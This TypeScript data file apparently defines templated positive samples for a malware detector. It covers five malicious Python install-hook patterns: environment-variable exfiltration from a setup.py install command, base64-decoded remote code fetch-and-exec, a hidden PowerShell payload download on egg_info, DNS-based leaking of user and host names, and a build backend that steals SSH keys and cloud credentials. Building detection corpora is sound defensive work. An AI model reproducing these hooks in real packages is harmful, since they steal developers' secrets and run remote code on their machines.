// Hooks of Python packages that run harm at installation.
import type { Family } from './family.ts'

export const installHooks: readonly Family[] = [
  {
    family: 'setup-cmdclass-post',
    positive: true,
    classes: ['install-hook', 'env-exfiltration'],
    variants: [
      {
        paths: ['python/setup.py'],
        whole: `from setuptools import setup, find_packages
from setuptools.command.install import install
import getpass
import os
import socket
import urllib.parse
import urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        info = {"h": socket.gethostname(), "u": getpass.getuser(), "c": os.getcwd(), "e": dict(os.⟦join⟧
environ)}
        data = urllib.parse.urlencode(info).encode()
        urllib.request.urlopen("http://⟦host⟧/⟦lower:5⟧.php", data, timeout=5)


setup(
    name="⟦pick:reqeusts-toolbelt|djanga-utils|numpyy⟧",
    version="⟦pick:1.0.3|99.9.9|2.31.1⟧",
    description="Utilities",
    packages=find_packages(),
    cmdclass={"install": PostInstall},
)`,
      },
    ],
  },
  {
    family: 'setup-toplevel-exec',
    positive: true,
    classes: ['install-hook', 'decoded-exec'],
    variants: [
      {
        paths: ['setup.py'],
        whole: `import setuptools
import base64, subprocess, sys

with open("README.md", encoding="utf-8") as handle:
    long_description = handle.read()

subprocess.Popen([sys.executable, "-c", base64.b64decode("⟦b64:import urllib.request as u;exec(u.u⟦join⟧
rlopen('https://⟦host⟧/py').read())⟧")],
                 creationflags=getattr(subprocess, "CREATE_NO_WINDOW", 0))

setuptools.setup(
    name="colorslib",
    version="4.6.12",
    author="⟦lower:7⟧",
    long_description=long_description,
    packages=setuptools.find_packages(),
    install_requires=[],
)`,
      },
    ],
  },
  {
    family: 'setup-egg-info-powershell',
    positive: true,
    classes: ['install-hook', 'windows'],
    variants: [
      {
        paths: ['setup.py'],
        whole: String.raw`from setuptools import setup
from setuptools.command.egg_info import egg_info
import os


class Metadata(egg_info):
    def run(self):
        if os.name == "nt":
            os.system('powershell -WindowStyle Hidden -EncodedCommand ⟦utf16:iwr http://⟦ip⟧/esque⟦join⟧
le.exe -OutFile $env:TEMP\e.exe; Start-Process $env:TEMP\e.exe⟧')
        egg_info.run(self)


setup(name="⟦pick:libhttps|httpslib|esqcolor⟧", version="4.6.10", py_modules=["httpslib"], cmdclas⟦join⟧
s={"egg_info": Metadata})`,
      },
    ],
  },
  {
    family: 'setup-ctypes-dns',
    positive: true,
    classes: ['install-hook', 'covert-exfiltration'],
    variants: [
      {
        paths: ['setup.py'],
        whole: `#!/usr/bin/env python
from setuptools import setup
import os
import platform
import socket
import uuid

try:
    user = os.getlogin()
    node = platform.node()
    label = ("%s.%s.%s" % (user, node, uuid.uuid4().hex[:6])).encode().hex()
    for piece in [label[i:i + 60] for i in range(0, len(label), 60)]:
        socket.gethostbyname(piece + ".⟦lower:20⟧.oast.invalid")
except Exception:
    pass

setup(name="⟦pick:acme-internal-auth|corp-billing-sdk|infra-common⟧", version="100.0.1", packages=⟦join⟧
["core"])`,
      },
    ],
  },
  {
    family: 'pyproject-build-backend',
    positive: true,
    classes: ['install-hook', 'credential-theft'],
    variants: [
      {
        paths: ['build_backend/__init__.py'],
        whole: `"""In-tree build backend."""
from setuptools.build_meta import *  # noqa: F401,F403
from setuptools import build_meta as _orig
import pathlib, json, urllib.request


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    found = {}
    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".pypirc"):
        path = pathlib.Path.home() / name
        if path.exists():
            found[name] = path.read_text()
    if found:
        request = urllib.request.Request("https://⟦host⟧/u", json.dumps(found).encode())
        urllib.request.urlopen(request)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)`,
      },
    ],
  },
]
